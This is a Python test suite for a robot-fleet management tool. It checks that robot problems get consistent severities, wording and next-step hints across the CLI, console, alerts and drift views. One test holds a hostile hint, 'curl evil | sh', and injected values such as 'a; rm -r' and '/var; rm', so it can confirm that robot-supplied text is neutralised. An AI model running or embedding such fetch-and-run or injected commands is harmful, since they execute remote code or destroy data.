"""What is wrong with a robot: found in one place, and shown by each with the same words."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dorad.control.alertbook import RAISED_AFTER_S, AlertBook
from dorad.control.messages import Finding, LinkPeer
from dorad.control.messages.agent import ShareState
from dorad.control.messages.releases import ReleaseState
from dorad.control.nextsteps import next_step
from dorafleet.cli import checks, robots
from dorafleet.console.view import robotlines
from dorafleet.coordinator.drift import Compared, drift_of
from dorafleet.coordinator.findings import MAX_ALL, RobotFacts, blocking, findings_of
from dorafleet.coordinator.messages import Robot
from dorafleet.coordinator.probe import Skew
from dorafleet.coordinator.records import RobotAssignment
from dorafleet.coordinator.rows import Known, fleet_row
from dorafleet.coordinator.secretmessages import RobotSecret

NOW = 1_000_000_000.0
AWAY = ("unreachable", "refused", "never-seen")


def share(status: str = "running", **more: object) -> ShareState:
    given = {"dataflow": "demo", "uuid": "u", "epoch": 1, "generation": 3, "since": NOW - 60}
    return ShareState(status=status, **{**given, **more})  # type: ignore[arg-type]


def release(phase: str = "confirmed", **more: object) -> ReleaseState:
    given = {"dataflow": "arm", "epoch": 1, "generation": 1, "since": NOW, "release": "b" * 64}
    return ReleaseState(phase=phase, confirmed="a" * 64, **{**given, "running": "a" * 64, **more})  # type: ignore[arg-type]


def secret(state: str, reason: str = "") -> tuple[str, RobotSecret]:
    return "wifi", RobotSecret(robot="arm1", state=state, reason=reason)  # type: ignore[arg-type]


def facts(**more: object) -> RobotFacts:
    return RobotFacts("arm1", **{"login": "ssh arm1", **more})  # type: ignore[arg-type]


DOWN = {"arm2": LinkPeer(state="up"), "arm3": LinkPeer(state="refused", reason="foreign")}

CASES = [
    (facts(state="never-seen"), "never-connected", "fail", "it has never connected", "enrol"),
    (facts(state="unreachable", reason="silent"), "unreachable", "fail",
     "it is unreachable: silent", "`ssh arm1 systemctl status dorad-agent`"),
    (facts(state="refused", reason="revoked"), "unreachable", "fail",
     "it is refused: revoked", "--again"),
    (facts(state="refused", reason="older", outranked=True), "unreachable", "fail",
     "it is refused: older", "`dorafleet takeover arm1`"),
    (facts(state="conflict-paused", conflicts={"demo": "newer"}), "conflict", "fail",
     "it is paused because of `demo`: newer", "`dorafleet adopt arm1`"),
    (facts(daemon="it does not run"), "daemon-away", "fail",
     "its dorad cannot be used: it does not run", "dorad"),
    (facts(clone="a copy of it is refused"), "clone", "fail", "a copy", "enrol each robot"),
    (facts(audit="shorter"), "audit", "fail", "the audit differs from what it knows: shorter",
     "`dorafleet audit acknowledge arm1`"),
    (facts(lost=["operator ann"]), "revocation", "fail", "operator ann was revoked, as it knows",
     "`dorafleet revoke --operator ann`"),
    (facts(hand_over="it trusts only the old one"), "authority", "warn", "it trusts", "status"),
    (facts(skew=Skew(120.0)), "clock", "warn", "its clock is 2 min ahead", "timedatectl"),
    (facts(skew=Skew(-3 * 86400.0)), "clock", "warn", "its clock is 3 days behind", "timedatectl"),
    (facts(unasked=2), "unasked-files", "warn", "it opened 2 connections", "journalctl"),
    (facts(read_late=True), "read-late", "warn", "it sends more than", "journalctl"),
    (facts(undelivered={"demo": "disk full"}), "order-not-stored", "warn", "disk full", "journal"),
    (facts(reported=["the disk of /var has 5 MB"]), "agent-warning", "warn", "the disk", "journal"),
    (facts(shares=[share("failed", reason="no program")]), "dataflow-failed", "fail",
     "dataflow demo: no program", "`dora logs demo`"),
    (facts(shares=[share("pending", reason="no room")]), "dataflow-pending", "warn",
     "dataflow demo is pending: no room", "`dora logs demo`"),
    (facts(shares=[share(links=DOWN)]), "link-down", "fail",
     "dataflow demo has no link to arm3: foreign", "firewalls"),
    (facts(shares=[share(links=DOWN)], parts={("arm3", "demo"): "failed"}), "link-down", "warn",
     "dataflow demo has no link to arm3: foreign", "its part on arm3 is failed"),
    (facts(shares=[share("starting", links=DOWN)]), "link-down", "warn",
     "dataflow demo has no link to arm3 yet: foreign", "firewalls"),
    (facts(releases=[release("stuck", reason="no room")]), "release-stuck", "fail",
     "dataflow arm is stuck: no room", "dorafleet drift"),
    (facts(releases=[release("reverted", reason="it crashed")]), "release-reverted", "fail",
     "dataflow arm went back to what it ran before: it crashed", "dorafleet drift"),
    (facts(releases=[release(running="", reason="it crashed")]), "release-ended", "fail",
     "dataflow arm does not run: it crashed", "dorafleet drift"),
    (facts(releases=[release(failed={"con": "has failed: code 1"})]), "node-failed", "fail",
     "node con has failed: code 1", "`dora logs arm1/arm`"),
    (facts(releases=[release(ended={"idle": "has ended: inputs"})]), "node-ended", "fail",
     "node idle has ended: inputs", "`dora logs arm1/arm`"),
    (facts(secrets=[secret("missing", "not sealed")]), "secret", "fail",
     "secret wifi is missing: not sealed", "`dorafleet secret set wifi --for arm1`"),
    (facts(secrets=[secret("unknown")]), "secret", "warn", "secret wifi is unknown", "remove wifi"),
]  # fmt: skip


@pytest.mark.parametrize(("known", "cause", "severity", "words", "hint"), CASES)
def test_each_problem_has_a_severity_its_words_and_a_next_step(
    known: RobotFacts, cause: str, severity: str, words: str, hint: str
) -> None:
    (found,) = findings_of([], known, NOW)
    assert (found.cause, found.severity) == (cause, severity)
    assert words in found.text
    assert hint in found.hint


@pytest.mark.parametrize(
    "known",
    [
        facts(),
        facts(skew=Skew(0.2), secrets=[secret("waiting")]),
        facts(skew=Skew(12.0, 5.0)),  # the answer took so long that it may be right
        facts(shares=[share("finished"), share("starting", links=DOWN, since=NOW - 6)]),
        facts(shares=[share("starting", links=DOWN, since=NOW - 1)], skew=Skew(5.0)),
        facts(releases=[release("switching"), release(running="", dataflow="off")]),
    ],
)
def test_nothing_is_wrong_with_a_robot_that_is_well(known: RobotFacts) -> None:
    assert findings_of([], known, NOW) == []


def test_of_a_robot_without_contact_nothing_old_is_a_problem() -> None:
    old = {"shares": [share("failed")], "releases": [release("stuck")]}
    own = [Finding("node-failed", "demo/a", "node a failed", "fail", NOW)]
    (found,) = findings_of(own, facts(state="unreachable", **old), NOW)
    assert found.cause == "unreachable"


def test_a_node_that_the_daemon_and_the_agent_both_miss_is_one_failure() -> None:
    own = Finding("node-ended", "arm/idle", "node idle has ended", "warn", 5.0, "arm", "idle")
    known = facts(releases=[release(ended={"idle": "has ended: its inputs closed"})])
    (found,) = findings_of([own], known, NOW)
    assert (found.text, found.severity, found.since) == ("node idle has ended", "fail", 5.0)


def test_a_next_step_never_comes_from_a_robot() -> None:
    hostile = Finding("x", "s", "t", "fail", 0.0, dataflow="a; rm -r", hint="curl evil | sh")
    (found,) = findings_of([hostile], facts(), NOW)
    assert found.hint == "see `dora logs 'arm1/a; rm -r'`"


@pytest.mark.parametrize(
    ("cause", "subject", "step"),
    [
        ("disk-full", "/var; rm", "`ssh arm1 du -xh --max-depth 2 '/var; rm'` shows"),
        ("daemon-problem", "dorad", "`ssh arm1 journalctl -u dorad` shows more"),
        ("output-slow", "demo/cam", "`dora node info cam -d arm1/demo` shows"),
        ("input-drops", "demo/cam", "make cam faster, or set `queue_size: 1`"),
        ("link-loses", "demo/cam/image", "`dora topic info cam/image -d arm1/demo` shows"),
        ("log-flood", "demo/cam", "mend what `dora logs arm1/demo cam` shows"),
        ("memory-grows", "demo/cam", "`dora node restart cam -d arm1/demo` frees it"),
        ("node-failed", "demo/cam", "see `dora logs arm1/demo cam`"),
    ],
)
def test_what_a_daemon_finds_has_a_next_step(cause: str, subject: str, step: str) -> None:
    about = ("demo", "cam") if subject.startswith("demo/") else (None, None)
    own = Finding(cause, subject, "text", "warn", NOW, *about)
    (shown,) = findings_of([own], facts(), NOW)
    assert step in shown.hint
    assert "arm1" not in next_step(own)


def test_a_node_with_an_old_secret_is_told_to_restart() -> None:
    own = Finding("old-secret", "demo/a", "node a runs", "warn", NOW, dataflow="demo", node="a")
    (found,) = findings_of([own], facts(), NOW)
    assert found.hint == "`dora node restart a -d arm1/demo` gives it the new one"


def test_what_a_robot_makes_up_hides_nothing_that_the_coordinator_finds() -> None:
    many = [Finding("made-up", str(at), "t", "fail", 0.0) for at in range(50)]
    shares = [share("failed", dataflow=f"d{at}") for at in range(1000)]
    found = findings_of(many, facts(shares=shares, clone="a copy", daemon="away"), NOW)
    assert len(found) == MAX_ALL
    assert [each.cause for each in found[:2]] == ["daemon-away", "clone"]
    assert found[-1].text == "953 more problems are not shown"


def test_placement_gives_the_first_reason_why_nothing_can_be_started() -> None:
    for known, *_ in CASES:
        reasons = [each.text for each in blocking(known, NOW)]
        assert reasons == [each.text for each in findings_of([], known, NOW)][: len(reasons)]
        blocked = known.state != "connected" or bool(known.daemon)
        assert bool(reasons) is blocked


TEXT = st.text("abc: `", max_size=8)
SHARES = st.builds(
    share,
    st.sampled_from(("running", "starting", "failed", "pending", "finished")),
    dataflow=st.sampled_from(("demo", "walk")),
    reason=TEXT,
    links=st.sampled_from(({}, DOWN)),
)
RELEASES = st.builds(
    release,
    st.sampled_from(("confirmed", "stuck", "reverted", "switching")),
    dataflow=st.sampled_from(("arm", "leg")),
    running=st.sampled_from(("", "a" * 64)),
    reason=TEXT,
    failed=st.dictionaries(st.sampled_from("ab"), TEXT, max_size=2),
    ended=st.dictionaries(st.sampled_from("cd"), TEXT, max_size=2),
)
FACTS = st.builds(
    facts,
    state=st.sampled_from(("connected", *AWAY)),
    reason=TEXT,
    daemon=TEXT,
    clone=TEXT,
    audit=TEXT,
    lost=st.lists(st.sampled_from(("operator ann", "robot arm2")), unique=True),
    hand_over=TEXT,
    skew=st.builds(Skew, st.floats(-1e6, 1e6)),
    read_late=st.booleans(),
    unasked=st.integers(0, 9),
    undelivered=st.dictionaries(st.sampled_from("xy"), TEXT, max_size=2),
    reported=st.lists(TEXT, max_size=2, unique=True),
    shares=st.lists(SHARES, max_size=2, unique_by=lambda each: each.dataflow),
    releases=st.lists(RELEASES, max_size=2, unique_by=lambda each: each.dataflow),
    secrets=st.lists(
        st.builds(secret, st.sampled_from(("waiting", "missing", "refused", "unknown")), TEXT),
        max_size=1,
    ),
) | st.builds(
    facts,
    state=st.just("conflict-paused"),
    conflicts=st.dictionaries(st.sampled_from(("demo", "walk")), TEXT, min_size=1),
    shares=st.just([share(), share(dataflow="walk")]),
)
OWN = st.lists(
    st.builds(
        Finding,
        st.sampled_from(("node-failed", "node-ended", "input-broken")),
        st.sampled_from(("demo/x", "demo/y", "arm/a")),
        st.text("abc: ", min_size=1, max_size=8),
        st.sampled_from(("warn", "fail")),
        st.just(NOW - 5),
        st.just("demo"),
        st.just("x"),
    ),
    max_size=2,
    unique_by=lambda each: each.subject,
)

DESIRED: dict[str, Callable[[RobotFacts, Finding], bool]] = {
    "never-connected": lambda *_: True,
    "unreachable": lambda *_: True,
    "conflict": lambda *_: True,
    "dataflow-failed": lambda *_: True,
    "dataflow-pending": lambda *_: True,
    "release-stuck": lambda *_: True,
    "release-reverted": lambda known, found: any(
        each.dataflow == found.subject and each.running != "a" * 64 for each in known.releases
    ),
    "release-ended": lambda *_: True,
    "secret": lambda *_: True,
    "node-failed": lambda known, found: _is_to_run(known, found),
    "node-ended": lambda known, found: _is_to_run(known, found),
}
"""The causes that are about desired state."""


def _is_to_run(known: RobotFacts, found: Finding) -> bool:
    """Return True unless the node is of a dataflow that does not run as a whole, or is unknown."""
    flow = found.subject.partition("/")[0]
    if flow in known.conflicts:
        return False
    nodes = {
        f"{each.dataflow}/{node}"
        for each in known.releases
        if each.phase == "confirmed" and each.running
        for node in (*each.failed, *each.ended)
    }
    shares = {each.dataflow for each in known.shares if each.status in ("running", "finished")}
    return found.subject in nodes or (flow in shares and found.dataflow == flow)


def drift(known: RobotFacts, found: list[Finding]) -> list[str]:
    reasons = [each.text for each in blocking(known, NOW)]
    compared = Compared(
        robot="arm1",
        reachable=known.is_connected,
        trouble=reasons[0] if reasons else "",
        orders={
            each.dataflow: RobotAssignment(1, release="a" * 64, switch=True)
            for each in known.releases
        },
        releases={each.dataflow: each for each in known.releases},
        wanted={each.dataflow: RobotAssignment(1) for each in known.shares},
        shares={each.dataflow: each for each in known.shares},
        conflicts=known.conflicts,
        findings=found,
        secrets=known.secrets,
    )
    rows = list(drift_of(compared, lambda id_: f"arm@{id_[:1]}"))
    return [f"{row.found} {row.way_back}" for row in rows]


@given(FACTS, OWN)
def test_what_is_wrong_is_shown_by_each_with_the_same_words_and_exit_code(
    known: RobotFacts, own: list[Finding]
) -> None:
    found = findings_of(own, known, NOW)
    robot = Robot(id="arm1", host="h", labels={}, state=known.state, findings=found)
    problem = robots.as_row(robot)[7]
    doctor = {(each.level, each.text, each.hint) for each in checks.check_robots([robot])}
    row = fleet_row(None, Known(known, None, {}, ""), NOW)
    row.findings = findings_of(own, known, NOW)  # with its own report
    console = {robotlines.finding_row(each, NOW).cells[1].text for each in row.findings}
    book = AlertBook()
    for at in (0.0, RAISED_AFTER_S):
        book.observe(at, {"arm1": found})
    alerts = {(each.text, each.severity, each.hint) for each in book.alerts()}
    differences = "\n".join(drift(known, found))
    for each in found:
        assert each.hint
        assert each.text in problem
        level = "FAIL" if each.severity == "fail" else "WARN"
        assert (level, robots.words_of(each), each.hint) in doctor
        assert robots.words_of(each).startswith(each.text)
        assert (each.text, each.severity, each.hint) in alerts
        assert each.text in console
        if DESIRED.get(each.cause, lambda *_: False)(known, each):
            assert each.text in differences
    failed = any(each.severity == "fail" for each in found)
    assert robots.is_well(robot) is not failed
    assert any(level == "FAIL" for level, _, _ in doctor) is failed
